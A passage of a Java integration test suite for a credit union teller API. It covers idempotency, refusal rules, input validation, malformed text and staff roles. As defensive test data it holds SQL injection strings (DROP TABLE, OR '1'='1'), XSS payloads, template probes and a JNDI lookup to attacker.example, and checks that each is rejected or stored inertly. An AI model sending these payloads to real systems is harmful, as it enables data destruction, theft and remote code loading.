            assertEquals("IDEMPOTENCY_KEY_REUSED", reused.code());
        }
        assertEquals(entries + 1, teller.entries(), "nothing more posted");
        assertEquals(cents(balance), teller.account(draft).getString("ledgerBalance"));

        // the same key from another staff member is another request
        Api.Reply byOther = teller.post(teller.super1, key, body);
        assertEquals(201, byOther.status(), byOther.toString());
        assertNull(byOther.header("Idempotent-Replayed"));
        assertNotEquals(entryId(first.json()), entryId(byOther.json()));
        assertEquals("super1", byOther.json().getJsonObject("entry").getString("postedBy"));
        balance = balance.add(new BigDecimal("12.34"));
        assertEquals(Map.of(draft, both(balance, balance)), balances(byOther.json()));
        assertEquals(entries + 2, teller.entries());

        // an Idempotency-Key full of SQL is just a key
        Api.Reply sqlKey = teller.post(teller.rep1, "x';DROP-TABLE-idempotency_record;--", body);
        assertEquals(201, sqlKey.status(), sqlKey.toString());
        assertEquals(entries + 3, teller.entries());
    }

    // =================================================================== refusals

    @Test
    @Order(40)
    void every_refusal_rule_refuses_and_posts_nothing() {
        JsonObject member = teller.claimActiveMember("refusals", "50.00");
        String share = numberOf(member, "SHARE", "ACTIVE");
        String draft = numberOf(member, "SHARE_DRAFT", "ACTIVE");
        String frozen = frozenOrClosed("FROZEN");
        String closed = frozenOrClosed("CLOSED");
        String certificate = "100001-S80";
        String loan = "100001-L01";
        String liveLoan = numberOf(teller.claimMember("a loan with a balance", candidate -> Teller.accountOf(candidate, "LOAN", "ACTIVE")
                .filter(account -> money(account.getString("ledgerBalance")).compareTo(new BigDecimal("100.00")) > 0).isPresent()),
                "LOAN", "ACTIVE");
        BigDecimal draftAvailable = teller.available(draft);
        BigDecimal shareAvailable = teller.available(share);
        String[] watched = {share, draft, frozen, closed, "100002-S00", "100002-S10", certificate, loan, liveLoan};
        Map<String, String> before = teller.snapshot(watched);
        int entries = teller.entries();

        record Refusal(String rule, Api staff, JsonObjectBuilder body, int status, String code) {
        }
        List<Refusal> refusals = List.of(
                // a share cannot be overdrawn at all (a share draft can, with a supervisor's override: see ApprovalIT)
                new Refusal("one cent more than available", teller.rep1, request("WITHDRAWAL").add("tender", "CASH")
                        .add("fromAccount", share).add("amount", cents(shareAvailable.add(new BigDecimal("0.01")))),
                        422, "INSUFFICIENT_FUNDS"),
                new Refusal("transfer beyond available", teller.rep1, request("TRANSFER").add("fromAccount", share)
                        .add("toAccount", draft).add("amount", cents(shareAvailable.add(new BigDecimal("0.01")))),
                        422, "INSUFFICIENT_FUNDS"),
                new Refusal("official check fee beyond available", teller.rep1, request("OFFICIAL_CHECK").add("tender", "ACCOUNT")
                        .add("fromAccount", share).add("instrument", "MONEY_ORDER").add("amount", cents(shareAvailable.subtract(new BigDecimal("4.99")))),
                        422, "INSUFFICIENT_FUNDS"),
                new Refusal("deposit to a frozen account", teller.rep1, request("DEPOSIT").add("tender", "CASH")
                        .add("toAccount", frozen).add("amount", "10.00"), 422, "ACCOUNT_FROZEN"),
                new Refusal("transfer to a frozen account", teller.rep1, request("TRANSFER").add("fromAccount", draft)
                        .add("toAccount", frozen).add("amount", "10.00"), 422, "ACCOUNT_FROZEN"),
                new Refusal("deposit to a closed account", teller.rep1, request("DEPOSIT").add("tender", "CHECK")
                        .add("toAccount", closed).add("amount", "10.00"), 422, "ACCOUNT_CLOSED"),
                new Refusal("transfer to the same account", teller.rep1, request("TRANSFER").add("fromAccount", draft)
                        .add("toAccount", draft).add("amount", "10.00"), 422, "SAME_ACCOUNT"),
                new Refusal("unknown account", teller.rep1, request("DEPOSIT").add("tender", "CASH")
                        .add("toAccount", "999999-S00").add("amount", "10.00"), 422, "ACCOUNT_NOT_FOUND"),
                new Refusal("unknown source account", teller.rep1, request("TRANSFER").add("fromAccount", "100001-S99")
                        .add("toAccount", draft).add("amount", "10.00"), 422, "ACCOUNT_NOT_FOUND"),
                // rep2 cannot take a call for their own membership, so the posting names no call
                new Refusal("rep2 on their own share", teller.rep2, request("DEPOSIT").add("tender", "CASH")
                        .add("toAccount", "100002-S00").add("amount", "10.00"), 403, "VERIFICATION_REQUIRED"),
                new Refusal("rep2 transferring into their own draft", teller.rep2, request("TRANSFER").add("fromAccount", draft)
                        .add("toAccount", "100002-S10").add("amount", "10.00"), 422, "STAFF_OWN_ACCOUNT"),
                new Refusal("share left below par 5.00", teller.rep1, request("WITHDRAWAL").add("tender", "CASH")
                        .add("fromAccount", share).add("amount", cents(shareAvailable.subtract(new BigDecimal("4.99")))),
                        422, "SHARE_PAR_VALUE"),
                new Refusal("loan payment to a share", teller.rep1, request("LOAN_PAYMENT").add("tender", "ACCOUNT")
                        .add("fromAccount", draft).add("loanAccount", share).add("amount", "10.00"), 422, "NOT_A_LOAN"),
                new Refusal("deposit to a certificate", teller.rep1, request("DEPOSIT").add("tender", "CASH")
                        .add("toAccount", certificate).add("amount", "10.00"), 422, "CERTIFICATE_NOT_TRANSACTIONAL"),
                new Refusal("transfer into a loan", teller.rep1, request("TRANSFER").add("fromAccount", draft)
                        .add("toAccount", loan).add("amount", "10.00"), 422, "LOAN_ACCOUNT_NOT_ALLOWED"),
                new Refusal("deposit by account", teller.rep1, request("DEPOSIT").add("tender", "ACCOUNT")
                        .add("toAccount", draft).add("amount", "10.00"), 400, "TENDER_NOT_ALLOWED"),
                new Refusal("withdrawal by check", teller.rep1, request("WITHDRAWAL").add("tender", "CHECK")
                        .add("fromAccount", draft).add("amount", "10.00"), 400, "TENDER_NOT_ALLOWED"),
                new Refusal("transfer in cash", teller.rep1, request("TRANSFER").add("tender", "CASH").add("fromAccount", draft)
                        .add("toAccount", share).add("amount", "10.00"), 400, "TENDER_NOT_ALLOWED"),
                new Refusal("loan payment by check", teller.rep1, request("LOAN_PAYMENT").add("tender", "CHECK")
                        .add("loanAccount", liveLoan).add("amount", "10.00"), 400, "TENDER_NOT_ALLOWED"),
                new Refusal("official check by internal", teller.rep1, request("OFFICIAL_CHECK").add("tender", "INTERNAL")
                        .add("instrument", "MONEY_ORDER").add("amount", "10.00"), 400, "TENDER_NOT_ALLOWED"),
                new Refusal("a fee other than the schedule", teller.rep1, request("OFFICIAL_CHECK").add("tender", "ACCOUNT")
                        .add("fromAccount", draft).add("instrument", "MONEY_ORDER").add("amount", "10.00").add("fee", "1.00"),
                        422, "FEE_MISMATCH"));

        List<String> failures = new ArrayList<>();
        for (Refusal refusal : refusals) {
            Api.Reply reply = teller.post(refusal.staff(), refusal.body());
            if (reply.status() != refusal.status() || !refusal.code().equals(reply.code()) || !reply.isProblem()) {
                failures.add(refusal.rule() + ": expected " + refusal.status() + " " + refusal.code() + ", got " + reply);
            }
            int now = teller.entries();
            if (now != entries) {
                failures.add(refusal.rule() + ": posted " + (now - entries) + " entries");
                entries = now;
            }
        }
        assertEquals(List.of(), failures);
        assertEquals(before, teller.snapshot(watched), "no balance moved");

        // the boundaries themselves are allowed: exactly par stays, exactly the available balance goes
        JsonObject toPar = teller.posted(teller.rep1, request("WITHDRAWAL").add("tender", "CASH").add("fromAccount", share)
                .add("amount", cents(shareAvailable.subtract(new BigDecimal("5.00")))));
        assertEquals(Map.of(share, "5.00/5.00"), balances(toPar));
        JsonObject toZero = teller.posted(teller.rep1, request("WITHDRAWAL").add("tender", "CASH").add("fromAccount", draft)
                .add("amount", cents(draftAvailable)));
        assertEquals(Map.of(draft, "0.00/0.00"), balances(toZero));
    }

    private String frozenOrClosed(String status) {
        JsonObject member = teller.claimMember("a " + status + " deposit account", candidate ->
                Teller.accountOf(candidate, "SHARE_DRAFT", status).isPresent() || Teller.accountOf(candidate, "SHARE", status).isPresent());
        return Teller.accountOf(member, "SHARE_DRAFT", status).or(() -> Teller.accountOf(member, "SHARE", status))
                .orElseThrow().getString("accountNumber");
    }

    // =================================================================== bad input

    private record Bad(String what, String contentType, String key, String body, int status, String code) {
    }

    @Test
    @Order(50)
    void bad_input_gets_a_4xx_problem_with_a_code_and_posts_nothing() {
        JsonObject member = teller.claimActiveMember("bad input", "10.00");
        String draft = numberOf(member, "SHARE_DRAFT", "ACTIVE");
        String json = "application/json";
        JsonObject deposit = request("DEPOSIT").add("tender", "CASH").add("toAccount", draft).add("amount", "10.00").build();
        JsonObject officialCheck = request("OFFICIAL_CHECK").add("tender", "ACCOUNT").add("fromAccount", draft)
                .add("instrument", "MONEY_ORDER").add("amount", "10.00").build();
        JsonObject transfer = request("TRANSFER").add("fromAccount", draft).add("toAccount", "100001-S00").add("amount", "10.00").build();
        JsonObject loanPayment = request("LOAN_PAYMENT").add("tender", "CASH").add("amount", "10.00").build();
        // every row names rep1's verified visit for this member (cash is taken only at the counter, through
        // rep1's open drawer), so that only the body is wrong
        String session = teller.calls.verifiedVisit(teller.rep1, member.getString("memberNumber"));
        Drawers.ensureOpen(teller.rep1);

        List<Bad> table = new ArrayList<>();
        // every bad amount form of DESIGN.md "Money": zero, negative, exponent, NaN, blank, too many decimals, too large, not a string
        Object[][] amounts = {
                {"0", "AMOUNT_NOT_POSITIVE"}, {"0.00", "AMOUNT_NOT_POSITIVE"}, {"000.0", "AMOUNT_NOT_POSITIVE"},
                {"-5.00", "AMOUNT_NOT_POSITIVE"}, {"-0.01", "AMOUNT_NOT_POSITIVE"}, {"-0", "AMOUNT_NOT_POSITIVE"},
                {"1e3", "AMOUNT_EXPONENT"}, {"1.5E2", "AMOUNT_EXPONENT"}, {"10E-2", "AMOUNT_EXPONENT"},
                {"NaN", "AMOUNT_NOT_A_NUMBER"}, {"Infinity", "AMOUNT_NOT_A_NUMBER"}, {"-Infinity", "AMOUNT_NOT_A_NUMBER"},
                {"", "AMOUNT_MISSING"}, {"   ", "AMOUNT_MISSING"}, {"\t", "AMOUNT_MISSING"},
                {"10.001", "AMOUNT_TOO_MANY_DECIMALS"}, {"0.001", "AMOUNT_TOO_MANY_DECIMALS"}, {"1.2345", "AMOUNT_TOO_MANY_DECIMALS"},
                {"1000000000.01", "AMOUNT_TOO_LARGE"}, {"1000000001", "AMOUNT_TOO_LARGE"},
                {"99999999999999999999999999.00", "AMOUNT_TOO_LARGE"},
                {"+5.00", "AMOUNT_NOT_A_NUMBER"}, {" 10.00", "AMOUNT_NOT_A_NUMBER"}, {"10.00 ", "AMOUNT_NOT_A_NUMBER"},
                {"1,250.00", "AMOUNT_NOT_A_NUMBER"}, {"$10.00", "AMOUNT_NOT_A_NUMBER"}, {"10.", "AMOUNT_NOT_A_NUMBER"},
                {".50", "AMOUNT_NOT_A_NUMBER"}, {"0x10", "AMOUNT_NOT_A_NUMBER"}, {"ten", "AMOUNT_NOT_A_NUMBER"},
                {"１０.００", "AMOUNT_NOT_A_NUMBER"}, {"10.00; DROP TABLE journal_entry", "AMOUNT_NOT_A_NUMBER"},
                {"1 000.00", "AMOUNT_NOT_A_NUMBER"}, {"10,00", "AMOUNT_NOT_A_NUMBER"},
        };
        for (Object[] amount : amounts) {
            table.add(bad("amount \"" + amount[0] + "\"", with(deposit, "amount", Json.createValue((String) amount[0])),
                    400, (String) amount[1]));
        }
        table.add(bad("amount as a JSON number", with(deposit, "amount", Json.createValue(new BigDecimal("10.00"))), 400, "AMOUNT_NOT_A_STRING"));
        table.add(bad("amount as a JSON integer", with(deposit, "amount", Json.createValue(10)), 400, "AMOUNT_NOT_A_STRING"));
        table.add(bad("amount as a boolean", with(deposit, "amount", JsonValue.TRUE), 400, "AMOUNT_NOT_A_STRING"));
        table.add(bad("amount as an array", with(deposit, "amount", Json.createArrayBuilder().add("10.00").build()), 400, "AMOUNT_NOT_A_STRING"));
        table.add(bad("amount null", with(deposit, "amount", JsonValue.NULL), 400, "AMOUNT_MISSING"));
        table.add(bad("amount missing", without(deposit, "amount"), 400, "AMOUNT_MISSING"));
        table.add(bad("negative fee", with(officialCheck, "fee", Json.createValue("-5.00")), 400, "AMOUNT_NOT_POSITIVE"));
        table.add(bad("fee as a number", with(officialCheck, "fee", Json.createValue(5)), 400, "AMOUNT_NOT_A_STRING"));
        table.add(bad("fee with an exponent", with(officialCheck, "fee", Json.createValue("5e0")), 400, "AMOUNT_EXPONENT"));
        // wrong JSON types
        table.add(bad("type as a number", with(deposit, "type", Json.createValue(1)), 400, "FIELD_WRONG_TYPE"));
        table.add(bad("tender as a boolean", with(deposit, "tender", JsonValue.TRUE), 400, "FIELD_WRONG_TYPE"));
        table.add(bad("toAccount as a number", with(deposit, "toAccount", Json.createValue(100001)), 400, "FIELD_WRONG_TYPE"));
        table.add(bad("toAccount as an array", with(deposit, "toAccount", Json.createArrayBuilder().add(draft).build()), 400, "FIELD_WRONG_TYPE"));
        table.add(bad("memo as an object", with(deposit, "memo", Json.createObjectBuilder().add("a", 1).build()), 400, "FIELD_WRONG_TYPE"));
        table.add(bad("feeWaived as a string", with(officialCheck, "feeWaived", Json.createValue("true")), 400, "FIELD_WRONG_TYPE"));
        table.add(bad("sessionId as a number", with(deposit, "sessionId", Json.createValue(5)), 400, "FIELD_WRONG_TYPE"));
        // values outside the enumerations
        table.add(bad("unknown type", with(deposit, "type", Json.createValue("REFUND")), 400, "FIELD_INVALID"));
        table.add(bad("lower-case type", with(deposit, "type", Json.createValue("deposit")), 400, "FIELD_INVALID"));
        table.add(bad("unknown tender", with(deposit, "tender", Json.createValue("BITCOIN")), 400, "FIELD_INVALID"));
        table.add(bad("unknown instrument", with(officialCheck, "instrument", Json.createValue("GIFT_CARD")), 400, "FIELD_INVALID"));
        table.add(bad("a reversal is not a posting", with(deposit, "type", Json.createValue("REVERSAL")), 400, "TYPE_NOT_ALLOWED"));
        table.add(bad("an opening balance is not a posting", without(with(deposit, "type", Json.createValue("OPENING_BALANCE")), "tender"),
                400, "TYPE_NOT_ALLOWED"));
        // missing fields
        table.add(bad("no type", without(deposit, "type"), 400, "FIELD_REQUIRED"));
        table.add(bad("type null", with(deposit, "type", JsonValue.NULL), 400, "FIELD_REQUIRED"));
        table.add(bad("no tender", without(deposit, "tender"), 400, "FIELD_REQUIRED"));
        table.add(bad("no toAccount", without(deposit, "toAccount"), 400, "FIELD_REQUIRED"));
        table.add(bad("blank toAccount", with(deposit, "toAccount", Json.createValue("")), 400, "FIELD_REQUIRED"));
        table.add(bad("no fromAccount", without(transfer, "fromAccount"), 400, "FIELD_REQUIRED"));
        table.add(bad("no instrument", without(officialCheck, "instrument"), 400, "FIELD_REQUIRED"));
        table.add(bad("no loanAccount", loanPayment, 400, "FIELD_REQUIRED"));
        // fields the type does not use, and fields no posting has
        table.add(bad("deposit with a fromAccount", with(deposit, "fromAccount", Json.createValue(numberOf(member, "SHARE", "ACTIVE"))),
                400, "FIELD_NOT_ALLOWED"));
        table.add(bad("deposit with an instrument", with(deposit, "instrument", Json.createValue("MONEY_ORDER")), 400, "FIELD_NOT_ALLOWED"));
        table.add(bad("unknown field", with(deposit, "account", Json.createValue(draft)), 400, "FIELD_UNKNOWN"));
        table.add(bad("field name in the wrong case", with(without(deposit, "amount"), "Amount", Json.createValue("10.00")), 400, "FIELD_UNKNOWN"));
        table.add(bad("__proto__ field", with(deposit, "__proto__", Json.createObjectBuilder().add("amount", "1.00").build()), 400, "FIELD_UNKNOWN"));
        // accounts that do not exist, including injection through the account number
        table.add(bad("unknown account", with(deposit, "toAccount", Json.createValue("999999-S10")), 422, "ACCOUNT_NOT_FOUND"));
        table.add(bad("account number in lower case", with(deposit, "toAccount", Json.createValue(draft.toLowerCase())), 422, "ACCOUNT_NOT_FOUND"));
        table.add(bad("SQL in the account number", with(deposit, "toAccount", Json.createValue(draft + "' OR '1'='1")), 422, "ACCOUNT_NOT_FOUND"));
        table.add(bad("LIKE wildcard account number", with(deposit, "toAccount", Json.createValue("%")), 422, "ACCOUNT_NOT_FOUND"));
        // (the accounts are looked up before the planner would call surrounding spaces FIELD_INVALID)
        table.add(bad("account number with spaces", with(deposit, "toAccount", Json.createValue(" " + draft)), 422, "ACCOUNT_NOT_FOUND"));
        table.add(bad("overlong account number", with(deposit, "toAccount", Json.createValue("1".repeat(41))), 400, "FIELD_TOO_LONG"));
        // memo: too long, and injection strings in otherwise bad requests
        table.add(bad("memo of 501 characters", with(deposit, "memo", Json.createValue("m".repeat(501))), 400, "FIELD_TOO_LONG"));
        table.add(bad("script memo of 501 characters", with(deposit, "memo",
                Json.createValue("<script>alert(1)</script>" + "x".repeat(476))), 400, "FIELD_TOO_LONG"));
        table.add(bad("SQL memo with a bad amount", with(with(deposit, "memo", Json.createValue("'); DROP TABLE journal_entry; --")),
                "amount", Json.createValue("abc")), 400, "AMOUNT_NOT_A_NUMBER"));
        table.add(bad("script memo to an unknown account", with(with(deposit, "memo", Json.createValue("<img src=x onerror=alert(1)>")),
                "toAccount", Json.createValue("000000-S00")), 422, "ACCOUNT_NOT_FOUND"));
        // bodies that are not a posting at all
        table.add(new Bad("malformed JSON", json, Teller.newKey(), "{\"type\":\"DEPOSIT\",", 400, "MALFORMED_JSON"));
        table.add(new Bad("not JSON", json, Teller.newKey(), "type=DEPOSIT&amount=10.00", 400, "MALFORMED_JSON"));
        table.add(new Bad("single quotes", json, Teller.newKey(), deposit.toString().replace('"', '\''), 400, "MALFORMED_JSON"));
        table.add(new Bad("oversized body", json, Teller.newKey(),
                with(deposit, "memo", Json.createValue("x".repeat(70_000))).toString(), 413, "BODY_TOO_LARGE"));
        table.add(new Bad("oversized body of unknown fields", json, Teller.newKey(),
                "{" + "\"f\":1,".repeat(12_000) + "\"type\":\"DEPOSIT\"}", 413, "BODY_TOO_LARGE"));
        table.add(new Bad("plain text", "text/plain", Teller.newKey(), deposit.toString(), 415, "UNSUPPORTED_MEDIA_TYPE"));
        table.add(new Bad("form encoded", "application/x-www-form-urlencoded", Teller.newKey(), "type=DEPOSIT", 415, "UNSUPPORTED_MEDIA_TYPE"));
        // the Idempotency-Key header
        table.add(new Bad("no Idempotency-Key", json, null, deposit.toString(), 400, "IDEMPOTENCY_KEY_REQUIRED"));
        table.add(new Bad("blank Idempotency-Key", json, " ", deposit.toString(), 400, "IDEMPOTENCY_KEY_REQUIRED"));
        table.add(new Bad("overlong Idempotency-Key", json, "k".repeat(101), deposit.toString(), 400, "IDEMPOTENCY_KEY_INVALID"));

        Map<String, String> before = teller.snapshot(draft, "100001-S00");
        int entries = teller.entries();
        List<String> failures = new ArrayList<>();
        for (Bad row : table) {
            Api.Reply reply = send(row, session);
            String got = reply.status() + " " + reply.code();
            if (reply.status() != row.status() || !reply.isProblem() || !row.code().equals(reply.code())) {
                failures.add(row.what() + ": expected " + row.status() + " " + row.code() + ", got " + reply);
            } else if (reply.body().contains("Exception") || reply.body().contains("at coop.")) {
                failures.add(row.what() + ": internals leaked: " + got);
            }
            int now = teller.entries();
            if (now != entries) {
                failures.add(row.what() + ": posted " + (now - entries) + " entries");
                entries = now;
            }
        }
        // a body over 64 KB streamed without a Content-Length is refused too
        Api.Reply chunked = sendChunked(with(deposit, "memo", Json.createValue("y".repeat(70_000))).toString());
        if (chunked.status() != 413 || !"BODY_TOO_LARGE".equals(chunked.code())) {
            failures.add("oversized chunked body: expected 413 BODY_TOO_LARGE, got " + chunked.status() + " " + chunked.code());
        }
        assertEquals(entries, teller.entries(), "the chunked body posted nothing");
        assertEquals(List.of(), failures, failures.size() + " of " + (table.size() + 1) + " rows failed");
        assertEquals(before, teller.snapshot(draft, "100001-S00"), "no balance moved");

        // the request the rows were made from is itself fine
        JsonObject valid = teller.posted(teller.rep1, Json.createObjectBuilder(deposit).add("memo", "m".repeat(500)));
        assertEquals("m".repeat(500), valid.getJsonObject("entry").getString("memo"));
    }

    /**
     * A JSON object followed by more text (here a stray "}") is not valid JSON: refused whole,
     * rather than the first object being read and posted.
     */
    @Test
    @Order(52)
    void a_body_with_trailing_content_is_malformed_json() {
        JsonObject member = teller.claimActiveMember("trailing content", "0.00");
        String draft = numberOf(member, "SHARE_DRAFT", "ACTIVE");
        int entries = teller.entries();
        String body = request("DEPOSIT").add("tender", "CASH").add("toAccount", draft).add("amount", "10.00").build() + "}";
        Api.Reply reply = teller.post(teller.rep1, Teller.newKey(), body);
        assertEquals(400, reply.status(), reply.toString());
        assertEquals("MALFORMED_JSON", reply.code());
        assertEquals(entries, teller.entries());
    }

    /**
     * Text that cannot be sealed is never stored: a lone surrogate or a control character in any
     * string of the body (values and member names, at any depth), bytes that are not UTF-8, a member
     * named twice, and a path or query whose bytes are not UTF-8 text are each a 400 that posts nothing.
     */
    @Test
    @Order(53)
    void text_that_is_not_well_formed_unicode_is_refused_whole_and_posts_nothing() {
        JsonObject member = teller.claimActiveMember("malformed text", "0.00");
        String draft = numberOf(member, "SHARE_DRAFT", "ACTIVE");
        // a valid INTERNAL deposit of 5.00 with a memo to replace, sessionId included
        String valid = teller.withSession(teller.rep1, request("DEPOSIT").add("tender", "INTERNAL").add("toAccount", draft)
                .add("amount", "5.00").add("memo", "MEMO").build().toString());
        Map<String, String> before = teller.snapshot(draft);
        int entries = teller.entries();

        record Row(String what, String body, int status, String code, String field) {
        }
        List<Row> rows = List.of(
                new Row("an escaped lone high surrogate in the memo", valid.replace("\"MEMO\"", "\"x\\ud800y\""),
                        400, "MALFORMED_TEXT", "/memo"),
                new Row("an escaped lone low surrogate", valid.replace("\"MEMO\"", "\"\\udc00\""), 400, "MALFORMED_TEXT", "/memo"),
                new Row("a surrogate pair in the wrong order", valid.replace("\"MEMO\"", "\"\\udc00\\ud800\""),
                        400, "MALFORMED_TEXT", "/memo"),
                new Row("NUL in the memo", valid.replace("\"MEMO\"", "\"a\\u0000b\""), 400, "MALFORMED_TEXT", "/memo"),
                new Row("ESC in the memo", valid.replace("\"MEMO\"", "\"\\u001b[2J\""), 400, "MALFORMED_TEXT", "/memo"),
                new Row("a lone surrogate in a member name", valid.replace("\"memo\"", "\"memo\\ud800\""), 400, "MALFORMED_TEXT", ""),
                new Row("a lone surrogate in an array", valid.replace("\"MEMO\"", "\"ok\",\"x\":[\"a\",[\"\\ud800\"]]"),
                        400, "MALFORMED_TEXT", "/x/1/0"),
                new Row("a lone surrogate in a nested object", valid.replace("\"MEMO\"", "\"ok\",\"x\":{\"y\":\"\\udbff\"}"),
                        400, "MALFORMED_TEXT", "/x/y"),
                new Row("the amount twice", valid.replace("\"amount\":\"5.00\"", "\"amount\":\"5.00\",\"amount\":\"500.00\""),
                        400, "MALFORMED_JSON", "/amount"),
                new Row("the memo twice", valid.replace("\"MEMO\"", "\"one\",\"memo\":\"two\""), 400, "MALFORMED_JSON", "/memo"),
                new Row("a member twice in a nested object", valid.replace("\"MEMO\"", "\"ok\",\"x\":{\"20\":1,\"20\":2}"),
                        400, "MALFORMED_JSON", "/x/20"));
        List<String> failures = new ArrayList<>();
        for (Row row : rows) {
            Api.Reply reply = teller.rep1.post("api/transactions", row.body(), Map.of("Idempotency-Key", Teller.newKey()));
            if (reply.status() != row.status() || !reply.isProblem() || !row.code().equals(reply.code())
                    || !row.field().equals(reply.json().getString("field", null))) {
                failures.add(row.what() + ": expected " + row.status() + " " + row.code() + " at '" + row.field() + "', got " + reply);
            }
        }
        // bytes that are not UTF-8: never decoded to U+FFFD and stored
        byte[][] notUtf8 = {
                {(byte) 0xFF}, {(byte) 0xC3}, {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xE9}};
        for (byte[] bad : notUtf8) {
            for (String contentType : List.of("application/json", "application/json; charset=ISO-8859-1")) {
                Api.Reply reply = sendRaw(contentType, Teller.newKey(), HttpRequest.BodyPublishers.ofByteArray(withBytes(valid, bad)));
                if (reply.status() != 400 || !"MALFORMED_JSON".equals(reply.code())) {
                    failures.add("bytes " + java.util.HexFormat.of().formatHex(bad) + " as " + contentType + ": got " + reply);
                }
            }
        }
        assertEquals(List.of(), failures);
        assertEquals(entries, teller.entries(), "nothing posted");
        assertEquals(before, teller.snapshot(draft), "no balance moved");

        // text in the URL: percent-encoded bytes that are not UTF-8, or that spell a control character
        for (String path : List.of("api/members?q=%FF", "api/members?q=%ED%A0%80", "api/members?q=a%00b", "api/members?q=%C0%AF",
                "api/members?q=%1B%5B2J", "api/accounts/a%1Bb/history", "api/accounts/%C2%85/history")) {
            Api.Reply reply = teller.super1.get(path);
            assertEquals(400, reply.status(), path + ": " + reply);
            assertEquals("MALFORMED_TEXT", reply.code(), path + ": " + reply);
            assertEquals(path.contains("?") ? "query" : "path", reply.json().getString("in"), path);
        }
        // a path whose bytes are not UTF-8, or hold NUL, the HTTP server itself refuses (a bare 400)
        // before any filter or resource sees it
        for (String path : List.of("api/accounts/%FF/history", "api/accounts/" + draft + "%00/history", "api/transactions/%E9",
                "api/accounts/%ED%A0%80/history")) {
            assertEquals(400, teller.super1.get(path).status(), path);
        }
        assertEquals(200, teller.super1.get("api/members?q=Zo%C3%AB").status(), "percent-encoded UTF-8 is text");
        // a query parameter named twice, however its name is spelled, is ambiguous: refused, not guessed
        for (String path : List.of("api/members?q=Zo&q=Smith", "api/members?q=Zo&%71=Smith", "api/members?q&q=Smith")) {
            Api.Reply reply = teller.super1.get(path);
            assertEquals(400, reply.status(), path + ": " + reply);
            assertEquals("QUERY_PARAMETER_REPEATED", reply.code(), path + ": " + reply);
            assertEquals("q", reply.json().getString("parameter"), path);
        }

        // well-formed text outside the BMP, raw or escaped as a pair, is posted and read back as sent
        JsonObject posted = teller.posted(teller.rep1, request("DEPOSIT").add("tender", "INTERNAL").add("toAccount", draft)
                .add("amount", "1.00").add("memo", "💸 tab\tline\n"));
        assertEquals("💸 tab\tline\n", posted.getJsonObject("entry").getString("memo"));
        Api.Reply pair = teller.rep1.post("api/transactions", valid.replace("\"MEMO\"", "\"\\ud83d\\udcb8\""),
                Map.of("Idempotency-Key", Teller.newKey()));
        assertEquals(201, pair.status(), pair.toString());
        assertEquals("💸", pair.json().getJsonObject("entry").getString("memo"));

        // an extension never overwrites a problem's own members
        Api.Reply opening = teller.rep1.post("api/transactions", valid.replace("\"DEPOSIT\"", "\"OPENING_BALANCE\"")
                .replace("\"tender\":\"INTERNAL\",", ""), Map.of("Idempotency-Key", Teller.newKey()));
        assertEquals("TYPE_NOT_ALLOWED", opening.code(), opening.toString());
        assertEquals("urn:tally:problem:type-not-allowed", opening.json().getString("type"));
        assertEquals(400, opening.json().getInt("status"));
        assertEquals("OPENING_BALANCE", opening.json().getString("entryType"));
    }

    /** The text with the bytes in place of the memo's MEMO. */
    private static byte[] withBytes(String text, byte[] bad) {
        String[] parts = text.split("MEMO", 2);
        java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
        bytes.writeBytes(parts[0].getBytes(StandardCharsets.UTF_8));
        bytes.writeBytes(bad);
        bytes.writeBytes(parts[1].getBytes(StandardCharsets.UTF_8));
        return bytes.toByteArray();
    }

    @Test
    @Order(51)
    void injection_strings_in_a_valid_memo_are_posted_and_read_back_verbatim() {
        JsonObject member = teller.claimActiveMember("memos", "0.00");
        String draft = numberOf(member, "SHARE_DRAFT", "ACTIVE");
        List<String> memos = List.of(
                "'; DROP TABLE journal_entry; --",
                "Robert'); DELETE FROM member_account WHERE '1'='1",
                "\" OR \"\"=\"",
                "1; UPDATE member_account SET ledger_balance = 1000000",
                "<script>alert('memo')</script>",
                "<img src=x onerror=\"alert(1)\">",
                "javascript:alert(document.cookie)",
                "${jndi:ldap://attacker.example/a}",
                "{{7*7}} #{7*7} %s %n",
                "\\u0000 \\\" back\\slash",
                "line one\nline two\ttabbed\r\n",
                "Zoë Ångström — café ☕ 💸 日本語",
                "   leading and trailing spaces   ",
                "a".repeat(500));
        BigDecimal balance = teller.ledger(draft);
        for (String memo : memos) {
            JsonObject posted = teller.posted(teller.rep1, request("DEPOSIT").add("tender", "INTERNAL").add("toAccount", draft)
                    .add("amount", "1.00").add("memo", memo));
            balance = balance.add(new BigDecimal("1.00"));
            assertEquals(memo, posted.getJsonObject("entry").getString("memo"));
            long id = entryId(posted);
            assertEquals(memo, teller.rep1.get("api/transactions/" + id).json().getString("memo"), "as the rep reads it");
            assertEquals(memo, teller.audit1.get("api/transactions/" + id).json().getString("memo"), "as the auditor reads it");
        }
        assertEquals(cents(balance), teller.account(draft).getString("ledgerBalance"), "every one of them posted once");
        JsonObject history = teller.super1.get("api/accounts/" + draft + "/history?size=" + memos.size()).json();
        List<String> newestFirst = history.getJsonArray("entries").getValuesAs(JsonObject.class).stream()
                .map(entry -> entry.getString("memo")).toList();
        List<String> expected = new ArrayList<>(memos);
        java.util.Collections.reverse(expected);
        assertEquals(expected, newestFirst);
        Api.Reply members = teller.super1.get("api/members/100001");
        assertEquals(200, members.status(), "the tables the memos name are still there: " + members);
    }

    // =================================================================== roles

    @Test
    @Order(60)
    void only_reps_and_supervisors_post_and_only_supervisors_reverse_directly() {
        JsonObject member = teller.claimActiveMember("roles", "20.00");
        String draft = numberOf(member, "SHARE_DRAFT", "ACTIVE");
        Map<String, String> before = teller.snapshot(draft);
        int entries = teller.entries();
        JsonObjectBuilder deposit = request("DEPOSIT").add("tender", "CASH").add("toAccount", draft).add("amount", "10.00");
        String body = deposit.build().toString();

        for (Api staff : List.of(teller.audit1, teller.admin1)) {
            Api.Reply reply = teller.post(staff, Teller.newKey(), body);
            assertEquals(403, reply.status(), reply.toString());
            assertEquals("FORBIDDEN", reply.code());
        }
        Api.Reply anonymous = teller.post(teller.anonymous, Teller.newKey(), body);
        assertEquals(401, anonymous.status(), anonymous.toString());
        assertEquals(entries, teller.entries());
        assertEquals(before, teller.snapshot(draft));

        JsonObject posted = teller.posted(teller.rep1, request("WITHDRAWAL").add("tender", "CASH").add("fromAccount", draft)
                .add("amount", "10.00"));
        long id = entryId(posted);
        entries = teller.entries();
        for (Api staff : List.of(teller.audit1, teller.admin1)) {
            Api.Reply reply = teller.reverse(staff, id, "MEMBER_REQUEST", null);
            assertEquals(403, reply.status(), reply.toString());
